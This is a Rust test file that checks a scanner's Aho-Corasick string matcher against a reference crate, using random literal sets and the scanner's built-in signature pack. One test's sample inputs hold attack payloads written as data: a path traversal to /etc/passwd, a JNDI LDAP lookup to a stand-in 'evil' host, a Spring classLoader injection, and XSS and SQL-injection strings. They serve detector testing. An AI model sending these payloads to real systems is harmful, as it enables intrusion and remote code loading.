//! The automaton against the `aho-corasick` crate (a dev-dependency kept as the oracle), built
//! with the options the scan used it with: every overlapping match, the same set.

use super::{Automaton, BuildError, Match, MAX_STATES};
use crate::mirror::signatures::pack::BUILTIN_PACK;
use crate::test_rng::Rng;
use aho_corasick::{AhoCorasickBuilder, AhoCorasickKind, MatchKind};
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

/// Every match, as (pattern, start, end), sorted.
fn ours(patterns: &[&[u8]], haystack: &[u8]) -> Vec<(u32, usize, usize)> {
    let a = Automaton::new(patterns).unwrap_or_else(|e| panic!("{e}"));
    let mut got: Vec<_> = a
        .find_overlapping_iter(haystack)
        .map(|m| (m.pattern, m.start, m.end))
        .collect();
    got.sort_unstable();
    got
}

fn oracle(patterns: &[&[u8]], haystack: &[u8]) -> Vec<(u32, usize, usize)> {
    let ac = AhoCorasickBuilder::new()
        .kind(Some(AhoCorasickKind::ContiguousNFA))
        .dense_depth(0)
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(patterns)
        .unwrap_or_else(|e| panic!("{e}"));
    let mut want: Vec<_> = ac
        .find_overlapping_iter(haystack)
        .map(|m| (m.pattern().as_u32(), m.start(), m.end()))
        .collect();
    want.sort_unstable();
    want
}

fn same(patterns: &[&[u8]], haystack: &[u8]) {
    assert_eq!(
        ours(patterns, haystack),
        oracle(patterns, haystack),
        "patterns {patterns:?}, haystack {haystack:?}"
    );
}

/// Random literals over a small alphabet (so they overlap, and share prefixes and suffixes),
/// with both cases and 0xFF, and haystacks that carry some of them with their case flipped.
#[test]
fn random_literal_sets_match_the_oracle() {
    let alphabet = b"aAbB/.%\xff\x00c";
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for round in 0..300 {
        let mut patterns: Vec<Vec<u8>> = Vec::new();
        for _ in 0..1 + rng.below(12) {
            let len = 1 + rng.below(6);
            patterns.push(
                (0..len)
                    .map(|_| alphabet[rng.below(alphabet.len())])
                    .collect(),
            );
        }
        // Prefixes, suffixes and case-flipped duplicates of the literals drawn.
        for _ in 0..rng.below(6) {
            let p = patterns[rng.below(patterns.len())].clone();
            let cut = 1 + rng.below(p.len());
            let derived = match rng.below(3) {
                0 => p[..cut].to_vec(),
                1 => p[p.len() - cut..].to_vec(),
                _ => p
                    .iter()
                    .map(|b| b ^ (b.is_ascii_alphabetic() as u8 * 0x20))
                    .collect(),
            };
            patterns.push(derived);
        }
        let refs: Vec<&[u8]> = patterns.iter().map(Vec::as_slice).collect();
        for _ in 0..8 {
            let mut haystack: Vec<u8> = Vec::new();
            let len = rng.below(if round % 10 == 0 { 2 } else { 120 });
            while haystack.len() < len {
                if rng.below(4) == 0 {
                    let p = &patterns[rng.below(patterns.len())];
                    haystack.extend(p.iter().map(|b| {
                        if rng.below(2) == 0 {
                            b.to_ascii_uppercase()
                        } else {
                            *b
                        }
                    }));
                } else {
                    haystack.push(alphabet[rng.below(alphabet.len())]);
                }
            }
            same(&refs, &haystack);
        }
    }
}

#[test]
fn nested_and_repeated_literals_report_every_occurrence() {
    let patterns: [&[u8]; 5] = [b"aaa", b"a", b"aa", b"Ba", b"ab"];
    let a = Automaton::new(&patterns).unwrap_or_else(|e| panic!("{e}"));
    let got: Vec<Match> = a.find_overlapping_iter(b"aAab").collect();
    let want = oracle(&patterns, b"aAab");
    assert_eq!(want.len(), got.len());
    // In order of their end; at one end, the longest first.
    let ends: Vec<(usize, u32)> = got.iter().map(|m| (m.end, m.pattern)).collect();
    assert_eq!(
        ends,
        [(1, 1), (2, 2), (2, 1), (3, 0), (3, 2), (3, 1), (4, 4)]
    );
    same(&patterns, b"");
    same(&patterns, b"\xff\xffaa\xffAB");
}

#[test]
fn the_builtin_pack_literals_match_the_oracle() {
    let pack: serde_json::Value =
        serde_json::from_str(BUILTIN_PACK).unwrap_or_else(|e| panic!("{e}"));
    let mut literals: Vec<String> = Vec::new();
    for rule in pack["rules"].as_array().into_iter().flatten() {
        let m = &rule["match"];
        let strings = m["any"]
            .as_array()
            .into_iter()
            .flatten()
            .chain(m["none"].as_array().into_iter().flatten())
            .chain(
                m["all"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .flat_map(|g| g.as_array().into_iter().flatten()),
            );
        for s in strings.filter_map(|s| s.as_str()) {
            let s = s.to_ascii_lowercase();
            if !literals.contains(&s) {
                literals.push(s);
            }
        }
    }
    assert!(literals.len() > 100, "{} literals", literals.len());
    let refs: Vec<&[u8]> = literals.iter().map(|s| s.as_bytes()).collect();
    let haystacks: [&[u8]; 5] = [
        b"GET /a/../../ETC/passwd?x=${jndi:ldap://evil/a} HTTP/1.1",
        b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
        b"<script>alert(1)</script>' OR 1=1 -- UNION SELECT * FROM users",
        b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
        b"",
    ];
    for haystack in haystacks {
        same(&refs, haystack);
    }
    let mut rng = Rng(7);
    let text: Vec<u8> = (0..4096)
        .map(|_| {
            let lit = refs[rng.below(refs.len())];
            lit.get(rng.below(lit.len().max(1)))
                .copied()
                .unwrap_or(b' ')
        })
        .collect();
    same(&refs, &text);
}

#[test]
fn empty_literal_matches_at_every_offset_like_the_oracle() {
    // Packs refuse empty literals; the automaton still reads them as the crate does, except
    // that the crate reports the empty match twice where another literal ends (a set here).
    let patterns: [&[u8]; 2] = [b"", b"ab"];
    same(&patterns, b"");
    let mut want = oracle(&patterns, b"xaby");
    want.dedup();
    assert_eq!(ours(&patterns, b"xaby"), want);
    assert_eq!(want.len(), 6);
}

#[test]
fn no_literals_match_nothing() {
    let a = Automaton::new(&[]).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(a.find_overlapping_iter(b"anything").count(), 0);
    assert_eq!(a.states(), 1);
}

#[test]
fn a_literal_set_over_the_state_limit_is_refused() {
    // Distinct from their fifth byte on (digits: no case to fold): about 251 states each.
    let patterns: Vec<Vec<u8>> = (0..MAX_STATES / 251 + 8)
        .map(|i| {
            let mut p = format!("{i:05}").into_bytes();
            p.resize(256, b'x');
            p
        })
        .collect();
    let refs: Vec<&[u8]> = patterns.iter().map(Vec::as_slice).collect();
    assert_eq!(
        Automaton::new(&refs).map(|a| a.states()).err(),
        Some(BuildError::TooManyStates)
    );
    let fits = MAX_STATES / 256;
    let a = Automaton::new(&refs[..fits]).unwrap_or_else(|e| panic!("{e}"));
    assert!(a.states() < MAX_STATES);
}

#[test]
fn literals_sort_by_their_folded_bytes_stably() {
    let patterns: [&[u8]; 6] = [b"b", b"AB", b"a", b"ab", b"", b"\xff"];
    assert_eq!(super::sorted_folded(&patterns, 6), [4, 2, 1, 3, 0, 5]);
    assert!(super::sorted_folded(&[], 0).is_empty());
}
